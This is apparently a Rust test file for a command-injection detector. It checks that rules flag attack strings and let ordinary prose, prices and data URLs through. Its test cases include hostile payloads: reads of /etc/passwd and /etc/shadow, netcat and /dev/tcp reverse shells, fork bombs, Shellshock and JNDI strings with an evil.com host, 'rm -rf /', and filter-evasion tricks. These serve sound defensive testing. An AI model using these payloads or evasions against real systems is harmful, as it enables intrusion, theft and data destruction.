//! The command-injection rules on attacks and on their benign look-alikes.

use super::windows::WINDOWS_ANCHORS;
use super::*;
use crate::decode::decode_fully;

/// The rules found in `v` after decoding (also for [`super::cmd`]'s tests).
pub(super) fn ids(v: &str) -> Vec<&'static str> {
    detect(&decode_fully(v.as_bytes(), true, true))
        .into_iter()
        .map(|r| r.id)
        .collect()
}

/// The readers that skip the positions inside an earlier one's lead, and read `<(`, `$(`
/// and `[` without looking back or to the end: the same findings behind long runs of
/// separators, line breaks, substitutions and brackets as without them (`pavise-fuzz
/// --growth` checks that they cost linear time).
#[test]
fn long_runs_before_a_command_change_nothing() {
    for run in [
        ";", "&&", "||", "\n", ";\n", " ; ", "{", "<(", "$(", "![", "[",
    ] {
        let pad = run.repeat(300);
        for (v, rule) in [
            ("; cat /etc/passwd", "rce-001"),
            ("&& id", "rce-001"),
            ("x=<(cmd)", "rce-002"),
            ("$(whoami)", "rce-002"),
            (";\n.shell id", "rce-001"),
            ("; ls /etc/[p]asswd", "rce-003"),
        ] {
            let v = format!("{pad}{v}");
            assert!(
                ids(&v).contains(&rule),
                "{run:?} x 300, then {v:?}: {:?}",
                ids(&v)
            );
        }
        assert!(ids(&pad).iter().all(|id| *id != "rce-002"), "{run:?}");
    }
    assert!(ids(&format!("{}\n.tables", ";\n".repeat(300))).contains(&"rce-001"));
    assert!(!ids("/etc/[abc]").contains(&"rce-003"));
    assert!(!ids(&format!("/x{}", "[p]".repeat(100))).contains(&"rce-003"));
}

#[test]
fn prechecks_at_their_edge() {
    // Each invocation by its option piece (blank runs and case squeezed away), `/dev/tcp/`,
    // a fork bomb and a Shellshock definition by `()`, the `$` literals of the evasions:
    // found with the prechecks and without, the same rules.
    for (v, rule) in [
        ("x; SH \t -C id", "rce-004"),
        ("python   -c 'import os'", "rce-004"),
        ("a php -r phpinfo();", "rce-004"),
        ("ncat -e /bin/sh 10.0.0.1", "rce-004"),
        ("exec 3<>/dev/tcp/10.0.0.1/80", "rce-004"),
        (":(){ :|:& };:", "rce-004"),
        ("() { :;}; echo x", "rce-004"),
        ("x=$((1+1))", "rce-003"),
        ("a$[1]b", "rce-003"),
        ("math=$[]", "rce-003"),
        ("cat$IFS/etc/passwd", "rce-003"),
        ("${jndi:ldap://x/a}", "rce-003"),
        ("$'\\x63at' /etc/passwd", "rce-003"),
    ] {
        let decoded = v.as_bytes();
        let with: Vec<_> = detect_with(&Lowered::new(decoded), 1, true)
            .iter()
            .map(|r| r.id)
            .collect();
        let without: Vec<_> = detect_with(&Lowered::new(decoded), 1, false)
            .iter()
            .map(|r| r.id)
            .collect();
        assert!(with.contains(&rule), "{v}: {with:?}");
        assert_eq!(with, without, "{v}");
    }
    // A `-` without an option letter, `(` without `)`, no `$`: nothing either way.
    for v in [
        "Item 12 (2-pack)",
        "kitchen/dining-room",
        "pay 20 (cash)",
        "it's (fine)",
    ] {
        assert!(
            detect_with(&Lowered::new(v.as_bytes()), 1, true).is_empty(),
            "{v}"
        );
        assert!(
            detect_with(&Lowered::new(v.as_bytes()), 1, false).is_empty(),
            "{v}"
        );
    }
}

#[test]
fn contractions_are_prose_not_quoted_command_names() {
    for v in [
        "I'd love to!",
        "Sounds good; I'd love to come",
        "Yes & I'd say so",
        "Mind your p's and q's",
        "ok | I'll id it later",
        "\"I'd love to go out with you, but I have to stay home\"",
        "JHM wonders what Joey did to earn \"I'd just like to say\"",
        "(I'm sure) he said \"don't,\" and left",
        // Quotation marks around a word or a title.
        "They give me cat scratch fever... \"Cat Scratch Fever\"",
        "-- Hermann Hesse, \"Going to Sleep\"",
        "-- Ian Drury, \"This Is What We Find\"",
        "\"Which is what we do to anyone\"",
        "overridden by 'stdbuf'. Also 'tee' and 'dd'",
        "Running \"modprobe c\" is now equivalent",
        "(\"ls\") and \"ping\", or 'whoami'.",
        "I think $[ is more like a coelacanth\n]",
    ] {
        assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
    }
    for (v, id) in [
        ("x;wh'oami", "rce-001"),
        ("x; i'd'", "rce-001"),
        ("c'a't /etc/passwd", "rce-003"),
        ("wh'oami'", "rce-003"),
        ("p's'", "rce-003"),
        ("\"wh'oami\"", "rce-003"),
        ("'cscli' alerts list", "rce-003"),
        ("\"nmap -sV host\"", "rce-003"),
        ("x;trap 'rm -rf file.txt' SIGEXIT", "rce-003"),
        ("he typed \"cat\" /etc/passwd", "rce-003"),
        // A call that runs a command line takes the quoted name.
        ("@{[ &system 'id' ]}", "rce-003"),
        ("@{[ CORE::system \"id\" ]}", "rce-003"),
        ("x; \"c'a't\" /etc/passwd", "rce-003"),
    ] {
        assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
    }
}

#[test]
fn chained_commands() {
    for v in [
        "127.0.0.1; cat /etc/passwd",
        "x|id",
        "x && whoami",
        "x%0Auname+-a",
        "a;/bin/cat /etc/shadow",
        "a; c'a't /etc/passwd",
        "a;w\\hoami",
        "foo||wget http://evil/x",
        "x; lsblk",
        "x && sqlmap -u http://t/?id=1",
        "a|journalctl -xe",
    ] {
        assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
    }
}

#[test]
fn substitution_evasion_invocation_windows() {
    assert!(ids("$(whoami)").contains(&"rce-002"));
    assert!(ids("`id`").contains(&"rce-002"));
    assert!(ids("cat${IFS}/etc/passwd").contains(&"rce-003"));
    assert!(ids("{cat,/etc/passwd}").contains(&"rce-003"));
    assert!(ids("ca$@t /etc/passwd").contains(&"rce-003"));
    assert!(ids("bash -c 'id'").contains(&"rce-004"));
    assert!(ids("x; nc -e /bin/sh 1.2.3.4 4444").contains(&"rce-004"));
    assert!(ids("exec 5<>/dev/tcp/1.2.3.4/80").contains(&"rce-004"));
    assert!(ids("cmd.exe /c dir").contains(&"rce-005"));
    assert!(ids("powershell -enc AAAA").contains(&"rce-005"));
    assert!(ids("IF /I \"%var%\"==\"x\" ( ECHO found )").contains(&"rce-005"));
    assert!(ids("FOR /D %a IN (dirs) DO abc").contains(&"rce-005"));
    assert!(ids("if %n1% gtr %n2% echo bigger").contains(&"rce-005"));
    assert!(ids("IF NOT DEFINED BAR (").contains(&"rce-005"));
    assert!(ids(";iwr http://example.com/x.ps1").contains(&"rce-005"));
    assert!(ids("cat /etc/pa[s]swd").contains(&"rce-001"));
    assert!(ids("if you want, 100% of it").is_empty());
    assert!(ids("x=<(cmd)").contains(&"rce-002"));
    assert!(ids("${jndi:ldap://evil.com/x}").contains(&"rce-003"));
}

#[test]
fn a_whole_command_line() {
    assert!(ids("env --version").contains(&"rce-001"));
    assert!(ids("perf --version").contains(&"rce-001"));
    assert!(ids(";flock -u / whoami").contains(&"rce-001"));
    assert!(ids("cat videos").is_empty());
    assert!(ids("curl/8.0.1").is_empty());
    assert!(ids("sleep - the best medicine").is_empty());
    // An option among the command's first words, before prose's clause ends.
    for v in [
        "nmap 10.0.0.1 -p 22",
        "docker run --rm alpine id",
        "kubectl get pods -o yaml",
        "ssh user@host -i key.pem",
    ] {
        assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
    }
    for v in [
        "bzip2 and bunzip2 will by default not overwrite existing files. If you want this to \
         happen, specify the -f flag.",
        "rmmod is a trivial program to remove a module (when module unloading support is \
         provided) from the kernel. Most users will want to use modprobe(8) with the -r option.",
        "bzcat (or bzip2 -dc) decompresses all specified files to the standard output.",
        "docker images are rebuilt nightly, so pull with -q",
        "Onboarding\nssh keys are on the wiki, in the team's folder. Ask for ~/x there.",
    ] {
        assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
    }
}

#[test]
fn command_lines_globs_and_windows_tests() {
    for (v, id) in [
        ("visudo\n", "rce-001"),
        ("ansible-playbook site.yml -i hosts", "rce-001"),
        ("chef-client -t 1.1.1.1", "rce-001"),
        ("nohup ifconfig", "rce-001"),
        ("time; ansible-console", "rce-001"),
        ("alias ls-al='ls -al'", "rce-001"),
        ("'visudo'\n", "rce-001"),
        ("pip3 install -r x.txt\n", "rce-001"),
        ("/etc/[p]asswd", "rce-003"),
        ("/usr/[a-z]in/bash", "rce-003"),
        ("/etc/[!abc]asswd", "rce-003"),
        ("$((1+2))", "rce-003"),
        ("f(){ f|f& };f", "rce-004"),
        (":(){ :|:& };:", "rce-004"),
        ("() { :;}; echo vulnerable", "rce-004"),
        ("IF \"2\" GEQ \"15\" echo \"bigger\"", "rce-005"),
        ("if not (2 equ 2) echo hey", "rce-005"),
        ("IF CMDEXTVERSION 1 GOTO start", "rce-005"),
        ("& FOR %~ IN (a,b,c)DO cmd", "rce-005"),
        ("IF \"%1\"==\"/?\" goto help", "rce-005"),
        ("IF [%1]==[/?] ...", "rce-005"),
        ("if !n!==1 goto end", "rce-005"),
        ("if %errorlevel% neq 0 exit", "rce-005"),
        ("x\nIF \"%~1\"==\"\" goto usage", "rce-005"),
        ("for %_ in (a,b,c) do cmd", "rce-005"),
        ("for %%variable in (set) do command", "rce-005"),
        (
            "FOR /F \"tokens=1-3\" %A IN (\"x y\") DO @echo pwnd",
            "rce-005",
        ),
        ("\" | type %SystemDrive%\\config.ini | \"", "rce-001"),
        ("x & type c:\\boot.ini", "rce-001"),
    ] {
        assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
    }
    for v in [
        "ansible is a tool",
        "time flies like an arrow",
        "the alias of the user",
        "items[0]",
        "/list/[abc]",
        "function f(){ return a||b };",
        "if a == b then we are done",
        "python tutorial\n",
        "docker for beginners\n",
        "Axel Smith\n",
        "Axel\n",
        "if 50%1 of them agree",
        "if 5% off, buy",
        "blood type: 0+ & type A",
        "what type of sentence; type 'hello' here",
        "& type 5 is rare",
        // Exclamations and percentages of prose, and what follows an "if" or "for" on later
        // lines.
        "It don't mean a THING if you ain't got that SWING!!",
        "Are you selling OIL WELLS??  If so, we can use TWO DOZEN!!",
        "I will not drink!\nBut if I do...\nI will not get drunk!",
        "if prices rise 5% and wages 3% we lose",
        "thanks for 100% in (every) case, do come again",
        "Rules:\n(1) HIDE!!!!\n(2) If they find you, LIE!!!!",
    ] {
        assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
    }
}

#[test]
fn ordinary_text_passes() {
    for v in [
        "cat food & dog food",
        "Tom & Jerry; the movie",
        "id=42&sort=asc",
        "fish | chips",
        "I said: ls is a command",
        "price $(USD)",
        "{a,b}",
        "rock'n'roll",
        "it's here",
        "ps: see you",
        "lunch; head to the office",
    ] {
        assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
    }
}

#[test]
fn evasions_undone_in_a_command_word() {
    for (v, id) in [
        // One-character and braced expansions, empty substitutions, escapes.
        ("x;c$*at /et$*c/pas$*swd", "rce-001"),
        ("x;c$-at /etc/hosts", "rce-001"),
        ("/???/c?t /???/p??s??", "rce-003"),
        ("x;/e??/p*sswd", "rce-003"),
        ("uname$u -a", "rce-003"),
        ("{n$u\\c$u,-nlvp,777}", "rce-003"),
        ("ping`` 127.0.0.1", "rce-003"),
        ("ping$() 127.0.0.1", "rce-003"),
        ("pi<()ng 127.0.0.1", "rce-003"),
        ("c{a,oun}t /etc/passwd", "rce-003"),
        ("{,cd,/etc,}", "rce-003"),
        ("${:1337:-x$}{jndi:ldap://x/y}", "rce-003"),
        // Variables at a command position.
        ("x;$c1$c2$c3 /etc/passwd", "rce-001"),
        ("a=nc&&$a -nlvp 555", "rce-001"),
        ("${SHELL} -c \"echo hi\"", "rce-001"),
        ("|$u wget test", "rce-001"),
        ("ip=;$a cat test.txt", "rce-001"),
        ("garb=adduse[r];$garb pizza", "rce-001"),
        // Versions, sourcing, option-only commands, directory changes.
        ("echo | gcc7.4", "rce-001"),
        (";gcc10.1<<<void main(){}", "rce-001"),
        ("x | ${x}gcc7.4", "rce-001"),
        ("ifconfig;. rm -rf /", "rce-001"),
        (";date --file secrets.txt", "rce-001"),
        ("x | sort -u", "rce-001"),
        ("cd /;cd etc;column passwd", "rce-001"),
        ("ll /var/www/", "rce-001"),
        ("\"ll\" /var/www/", "rce-001"),
        ("alias %2Bm a=b", "rce-001"),
        // SQLite's shell, binaries by path, netcat, WMI and the registry.
        (";\\n.databases", "rce-001"),
        ("1;.\\\"shell whoami\n", "rce-001"),
        ("bin/visudo", "rce-001"),
        ("/usr/local/bin/chef-client", "rce-001"),
        ("x;base64 -d /tmp/x", "rce-001"),
        ("x; >/dev/null cat /etc/passwd", "rce-001"),
        ("x; < /dev/null id", "rce-001"),
        ("x|>out 2>&1 whoami", "rce-001"),
        ("x;<(id)", "rce-001"),
        ("x|base64", "rce-001"),
        ("\"; . shell nc 10.10.10.1 6666 -e sh", "rce-004"),
        (";iwmi -class Win32_process -name Create", "rce-005"),
        ("; regedit /E c:\\x.reg HKEY_CURRENT_USER\\Key", "rce-005"),
    ] {
        assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
    }
    for v in [
        "costs $5 -ish, or $10",
        "price; $5 off today",
        "US$5",
        "Vinyl & CD /DVD combo",
        "CD 1; CD 2",
        "CD / DVD",
        "vinyl & CD ~ 10 dollars",
        "lunch; date with Anna",
        "free shipping; top-rated; sort by price",
        "we'll see",
        "{a,b} and c{x}d",
        "{name}, {title}",
        "recycle bin/cat litter",
        "python3.11 is out",
        "the nc -- network",
        "end of story. tables are set",
        "hello;.NET developers",
        "x=5; $x is five",
        "`a` and `b`",
        "f() and g()",
        "/search?q=1&p=2",
        "see /faq? or /help?",
        "what?/why? and how?",
        // A data URL's base64 parameter is no command after a `;`.
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
        "data:text/plain;charset=utf-8;base64,SGVsbG8sIFdvcmxkIQ==",
        "url(data:font/woff2;base64,d09GMgABAAAAA)",
        "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">",
        // The word after a redirection names a file: a chat log's nicknames.
        "<a_nick> nm\n<dash> heh :)\n<dash> behold the power of #python.",
        "<sh> hello there",
        "<ps> see you",
    ] {
        assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
    }
}

fn level2(v: &str) -> Vec<&'static str> {
    let decoded = decode_fully(v.as_bytes(), true, true);
    let with: Vec<_> = detect_level2(&decoded, true, true)
        .into_iter()
        .map(|r| r.id)
        .collect();
    let without: Vec<_> = detect_level2(&decoded, true, false)
        .into_iter()
        .map(|r| r.id)
        .collect();
    assert_eq!(with, without, "{v}: the prechecks change nothing");
    with
}

#[test]
fn level2_command_lines_and_expansions() {
    for (v, id) in [
        ("whoami;0'0'\"", "rce-007"),
        ("visudo", "rce-007"),
        ("chef-shell", "rce-007"),
        ("ansible-doc plugin ping\n", "rce-007"),
        ("cscli alerts list\n", "rce-007"),
        ("pip3 install something\n", "rce-007"),
        ("\"nmap\" -sV host", "rce-007"),
        ("net view", "rce-007"),
        ("NET  share", "rce-007"),
        ("sc query", "rce-007"),
        ("sed -n 1p /etc/passwd", "rce-007"),
        ("sed 's/a/b/' x", "rce-007"),
        ("sed;id", "rce-007"),
        ("chef report nodes", "rce-007"),
        ("${cmd}", "rce-008"),
        ("${x#{}}", "rce-008"),
        ("x ${PATH:-/bin}", "rce-008"),
        ("~%2B5", "rce-008"),
        ("~%2B", "rce-008"),
        ("~-1", "rce-008"),
        ("cd ~-/x", "rce-008"),
        ("!-1!-2", "rce-008"),
        ("/bin/ab", "rce-008"),
        ("x=/usr/local/sbin/thing -x", "rce-008"),
        ("{a,b}", "rce-008"),
        ("echo {1..9}", "rce-008"),
        ("x{,y}", "rce-008"),
    ] {
        assert!(level2(v).contains(&id), "{v}: {:?}", level2(v));
    }
    for v in [
        "net weight 5 kg",
        "net user growth",
        "dir",
        "python tutorial",
        "curl your hair",
        "gzip",
        "split the bill",
        "id",
        "uname",
        // Command names that begin sentences, without their command's arguments.
        "sed de aventura",
        "Sed ut perspiciatis unde omnis iste natus",
        "Chef de partie",
        "Chef",
        "Lynx are shy",
        "Yash Patel",
        "Shred the cheese",
        "Vagrant up the road",
        "Terraform plan for Mars",
        "hello world",
        "about ~0.5 or ~5 km",
        "wow!! -1 point",
        "see the recycle/bin/ folder",
        "/trash-bin/x",
        "costs $5{a}",
        "a ~ b",
        "x-1!-a",
        "lid~%2B",
        "{\"a\": 1, \"b\": 2}",
        "{name}, {title}",
        "{ a, b }",
        "{,}",
        "{1.5}",
        "/[a-z]{1,5}/",
        "\\d{2,}",
    ] {
        assert!(level2(v).is_empty(), "{v}: {:?}", level2(v));
    }
    // Not on a URL path: its first segment is not a command line.
    assert!(detect_level2(b"/whoami", false, true).is_empty());
}

#[test]
fn repeated_pieces_stay_linear() {
    // Each piece a rule looks around from, many times over: quadratic work would take
    // minutes here, linear takes milliseconds.
    for piece in [
        "`",
        "``",
        ";$a",
        "${",
        "{,",
        "bin/",
        "xbin/",
        "nc -x ",
        ";.",
        "a=b;",
        ";alias -a ",
        "~+",
        "!-1",
        ";cd ",
        "$u",
        "/?",
        " /a?",
        "{a,",
        "a{b,c}",
        ";net a{",
        "&net user ",
        ";dir ",
        "|reg add \"",
        ";echo \"",
        ";echo '>",
        "& n^et ",
        "if !a",
        "$[",
        ";>a",
        "2>&1 ",
        ";2",
        "if %",
        "for %a in (",
    ] {
        let value = piece.repeat(40_000 / piece.len());
        let start = std::time::Instant::now();
        let _ = detect_with(&Lowered::new(value.as_bytes()), 1, true);
        let _ = detect_level2(value.as_bytes(), true, true);
        assert!(
            start.elapsed() < std::time::Duration::from_secs(5),
            "{piece:?}: {:?}",
            start.elapsed()
        );
    }
}

#[test]
fn plain_shortcut_keeps_the_new_rules() {
    use crate::detect::{inspect_with, Enabled, ValueKind};
    for (v, kind) in [
        ("gwmi win32_service", ValueKind::Text),
        ("iwmi x", ValueKind::Text),
        ("iwr x", ValueKind::Text),
        ("/usr/bin/visudo", ValueKind::Path),
        ("/x/regedit /s", ValueKind::Path),
        ("net view", ValueKind::Text),
        ("net localgroup administrators", ValueKind::Text),
        ("ipconfig /all", ValueKind::Text),
        ("x/net user a /add", ValueKind::Path),
    ] {
        let ids = |shortcuts| -> Vec<&str> {
            inspect_with(v.as_bytes(), kind, "q", Enabled::STRICT, shortcuts)
                .into_iter()
                .map(|f| f.rule.id)
                .collect()
        };
        assert_eq!(ids(true), ids(false), "{v}");
    }
}

#[test]
fn level2_rules_only_at_level_2() {
    use crate::detect::{inspect, Enabled, ValueKind};
    for (v, id) in [("visudo", "rce-007"), ("x=${cmd}", "rce-008")] {
        let at = |enabled| -> Vec<&str> {
            inspect(v.as_bytes(), ValueKind::Text, "query:q", enabled)
                .into_iter()
                .map(|f| f.rule.id)
                .collect()
        };
        assert!(at(Enabled::ALL).is_empty(), "{v}");
        assert_eq!(at(Enabled::STRICT), [id], "{v}");
    }
    // A level-1 rule names the finding where both match.
    let found = inspect(b"x;whoami", ValueKind::Text, "q", Enabled::STRICT);
    assert_eq!(found.first().map(|f| f.rule.id), Some("rce-001"));
}

#[test]
fn prechecks_keep_every_rule() {
    assert!(WINDOWS_ANCHORS.builds());
    for (v, rule) in [
        ("x $(whoami)", "rce-002"),
        ("x `id`", "rce-002"),
        ("cat <(ls)", "rce-002"),
        ("/bin/c[a]t /etc/passwd", "rce-003"),
        ("x;w'h'oami", "rce-003"),
        ("x${IFS}id", "rce-003"),
        ("{cat,/etc/passwd}", "rce-003"),
        ("x SH\t\t-C id", "rce-004"),
        ("x >/DEV/TCP/1.2.3.4/80", "rce-004"),
        (":(){ :|:& };:", "rce-004"),
        ("x CMD   /C dir", "rce-005"),
        ("x\tPowerShell -enc", "rce-005"),
        ("IF   EXIST c:\\x", "rce-005"),
        ("FOR /F %i in (x) do echo", "rce-005"),
    ] {
        assert!(ids(v).contains(&rule), "{v}: {:?}", ids(v));
    }
}

/// (Text and SVG data URLs are left to the PHP and XSS rules, which read them as what they
/// can carry: a script to include, markup.)
#[test]
fn image_data_urls_pass_every_rule_at_both_levels() {
    use crate::detect::{inspect, Enabled, ValueKind};
    for v in [
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
        "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=",
        "data:image/webp;base64,UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==",
    ] {
        for enabled in [Enabled::ALL, Enabled::STRICT] {
            let found: Vec<&str> = inspect(v.as_bytes(), ValueKind::Text, "body:avatar", enabled)
                .into_iter()
                .map(|f| f.rule.id)
                .collect();
            assert!(found.is_empty(), "{v}: {found:?}");
        }
    }
}
